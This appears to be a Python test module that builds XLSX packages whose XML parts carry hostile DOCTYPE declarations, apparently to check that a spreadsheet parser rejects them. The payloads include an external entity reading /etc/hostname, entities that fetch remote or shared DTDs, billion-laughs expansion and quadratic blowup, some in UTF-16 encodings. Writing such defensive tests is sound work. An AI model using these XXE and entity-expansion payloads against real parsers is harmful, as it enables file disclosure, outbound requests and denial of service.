"""Document types in every part and encoding: entities that read files, call out, or grow."""

from __future__ import annotations

from .model import SHEET, STRINGS, STYLES, WORKBOOK, Case, with_strings, zipped

_PARTS = {
    "types": "[Content_Types].xml",
    "package_rels": "_rels/.rels",
    "workbook": WORKBOOK,
    "workbook_rels": "xl/_rels/workbook.xml.rels",
    "styles": STYLES,
    "sheet": SHEET,
    "strings": STRINGS,
    "drawing": "xl/drawings/drawing1.xml",
    "properties": "docProps/app.xml",
}
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9))
_TYPES = {
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>',
    "call": '<!DOCTYPE x [<!ENTITY % e SYSTEM "http://192.0.2.1/x.dtd"> %e;]>',
    "share": '<!DOCTYPE x SYSTEM "file://192.0.2.1/share/x.dtd">',
    "laughs": f"<!DOCTYPE x [{_LAUGHS}]>",
    "quadratic": f'<!DOCTYPE x [<!ENTITY q "{"q" * 60_000}">]>',
}
_WORDS = "document type (DOCTYPE)"


def _content(part: str) -> dict[str, str | bytes]:
    return {"xl/drawings/drawing1.xml": "<d/>", "docProps/app.xml": "<p/>", **with_strings("<si><t>Backup</t></si>")}


def _with_type(part: str, kind: str, encoding: str = "utf-8", before: str = "") -> bytes:
    content = _content(part)
    text = str(content[part])
    root = text.index("<", text.index("?>") + 2 if text.startswith("<?") else 0)
    declared = f'<?xml version="1.0" encoding="{encoding}"?>'
    return zipped({**content, part: f"{declared}{before}{_TYPES[kind]}{text[root:]}".encode(encoding)})


def _case(name: str, kind: str, encoding: str = "utf-8", before: str = "") -> Case:
    words = "-".join(filter(None, (name, kind, encoding if encoding != "utf-8" else "", "late" if before else "")))
    return Case(f"entity-{words}", lambda: _with_type(_PARTS[name], kind, encoding, before), _WORDS)


def _utf16_without_mark() -> bytes:
    content = _content(SHEET)
    text = str(content[SHEET])
    return zipped({**content, SHEET: f"{_TYPES['file']}{text[text.index('<worksheet') :]}".encode("utf-16-be")})


CASES = [
    *(_case(name, kind) for name in _PARTS for kind in ("file", "laughs")),
    *(_case(name, kind) for name in ("workbook", "sheet") for kind in ("call", "share", "quadratic")),
    *(_case(name, "file", "utf-16") for name in _PARTS),
    *(_case(name, "laughs", before=f"<!-- {'<x>' * 3000} --><?x <!?>\n") for name in ("workbook", "sheet", "drawing")),
    Case("entity-sheet-utf-16-without-a-mark", _utf16_without_mark, ""),
    Case("no-entity", lambda: zipped(_content(SHEET)), None),
    Case(
        "comment-before-the-root",
        lambda: zipped({**_content(SHEET), "docProps/app.xml": f"<!--{'-x' * 900}--><p/>"}),
        None,
    ),
]
